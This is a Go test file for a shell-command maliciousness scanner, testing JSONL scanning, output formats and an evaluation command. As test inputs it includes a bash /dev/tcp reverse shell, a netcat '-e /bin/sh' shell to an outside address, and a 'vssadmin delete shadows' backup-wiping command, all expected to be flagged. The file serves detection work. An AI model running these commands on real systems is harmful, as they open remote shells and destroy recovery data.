package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestScanJSONLStream(t *testing.T) {
	in := strings.Join([]string{
		`{"command":"ls -la /tmp"}`,
		`not json`,
		`{"cmd":"no command field"}`,
		`{"command":""}`,
		`{"command":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}`,
	}, "\n") + "\n"
	out, err := run(t, in, "scan", "--input", "jsonl", "--format", "jsonl")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 5 {
		t.Fatalf("%d output lines for 5 inputs:\n%s", len(lines), out)
	}
	wantCodes := map[int]string{1: "malformed", 2: "malformed", 3: "empty"}
	for i, l := range lines {
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatalf("line %d is not JSON: %s", i+1, l)
		}
		if code, isErr := wantCodes[i]; isErr {
			if m["code"] != code || m["line"] != float64(i+1) || m["error"] == "" {
				t.Errorf("line %d: want error code %q naming the line, got %s", i+1, code, l)
			}
			continue
		}
		for _, k := range []string{"label", "confidence", "action", "scores", "deobfuscated", "decoded_payload", "techniques", "evidence", "elapsed_us"} {
			if _, ok := m[k]; !ok {
				t.Errorf("line %d lacks %q", i+1, k)
			}
		}
	}
	if !strings.Contains(lines[4], `"label":"Malicious"`) || !strings.Contains(lines[4], `"action":"block"`) {
		t.Errorf("reverse shell: %s", lines[4])
	}
}

func TestScanTextStdinKeepsOrder(t *testing.T) {
	var in strings.Builder
	want := []string{}
	for i := range 600 { // more than one batch
		c := "echo line" + strings.Repeat("x", i%7) + " " + string(rune('a'+i%26))
		in.WriteString(c + "\n")
		want = append(want, c)
	}
	out, err := run(t, in.String(), "scan", "--workers", "4")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != len(want) {
		t.Fatalf("%d lines out for %d in", len(lines), len(want))
	}
	for i, l := range lines {
		var v struct{ Command string }
		if err := json.Unmarshal([]byte(l), &v); err != nil || v.Command != want[i] {
			t.Fatalf("line %d: %q, want command %q", i+1, l, want[i])
		}
	}
}

func TestScanFormats(t *testing.T) {
	out, err := run(t, "", "scan", "--format", "table", "whoami", "nc -e /bin/sh 203.0.113.9 4444")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(out, "LINE") || !strings.Contains(out, "Malicious") || strings.Count(out, "\n") != 3 {
		t.Errorf("table:\n%s", out)
	}
	out, err = run(t, "", "scan", "--format", "json", "uname -a")
	if err != nil || !strings.Contains(out, "\n  \"label\"") {
		t.Errorf("json should be indented: %v\n%s", err, out)
	}
	if _, err := run(t, "", "scan", "--format", "xml", "ls"); err == nil {
		t.Error("--format xml accepted")
	}
	if _, err := run(t, "", "scan", "--models", "/nonexistent", "ls"); err == nil || !strings.Contains(err.Error(), "--models") {
		t.Errorf("missing models dir: %v", err)
	}
}

func TestEvalCommand(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "labelled.jsonl")
	os.WriteFile(file, []byte(strings.Join([]string{
		`{"command":"ls -la","label":"Benign"}`,
		`{"command":"git status","label":"benign"}`,
		`{"command":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1","label":"Malicious","technique":"T1059.004"}`,
		`{"command":"vssadmin delete shadows /all /quiet","label":"Malicious","technique":"T1490"}`,
		`{"command":"nmap -sn 10.0.0.0/24","label":"Context_Dependent","technique":"T1046"}`,
	}, "\n")+"\n"), 0o644)
	out, err := run(t, "", "eval", "command", "-q", "--data", file, "--format", "json", "--out", filepath.Join(dir, "eval"))
	if err != nil {
		t.Fatal(err)
	}
	var fe struct {
		Tier1 struct {
			N        int
			Accuracy struct{ Estimate float64 }
		}
		Tier2 struct {
			N    int
			Top5 struct{ Estimate float64 }
		}
	}
	if err := json.Unmarshal([]byte(out), &fe); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if fe.Tier1.N != 5 || fe.Tier2.N != 3 || fe.Tier1.Accuracy.Estimate < 0.6 {
		t.Errorf("eval result %+v", fe)
	}
	for _, f := range []string{"metrics.json", "metrics.md", "roc.png", "reliability.png", "confusion.png"} {
		if st, err := os.Stat(filepath.Join(dir, "eval", f)); err != nil || st.Size() == 0 {
			t.Errorf("%s not written: %v", f, err)
		}
	}
	if _, err := run(t, "", "eval", "command"); err == nil || !strings.Contains(err.Error(), "--data") {
		t.Errorf("missing --data: %v", err)
	}
}
